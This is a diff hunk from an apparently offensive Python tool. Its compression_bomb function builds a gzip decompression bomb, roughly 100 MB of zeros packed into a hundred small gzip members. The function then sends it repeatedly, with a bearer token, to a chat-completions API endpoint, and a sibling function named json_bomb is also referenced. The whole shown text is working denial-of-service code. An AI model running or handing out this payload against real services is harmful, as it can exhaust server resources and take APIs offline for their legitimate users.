@@ -54,7 +54,7 @@ def json_bomb(a):
 def compression_bomb(a):
     """Zeros by the hundred megabytes, a thousandth of that as gzip."""
     packer = zlib.compressobj(9, zlib.DEFLATED, 31)
-    bomb = b"".join(packer.compress(bytes(1 << 20)) for _ in range(100)) + packer.flush()
+    bomb = 100 * (packer.compress(bytes(1 << 20)) + packer.flush())  # a hundred members, as gzip allows
     fields = b"authorization: Bearer " + a.target.token + b"\r\ncontent-type: application/json\r\ncontent-encoding: gzip\r\n"
     repeat(a, itertools.repeat(ask(b"/v1/chat/completions", fields, bomb)))
 
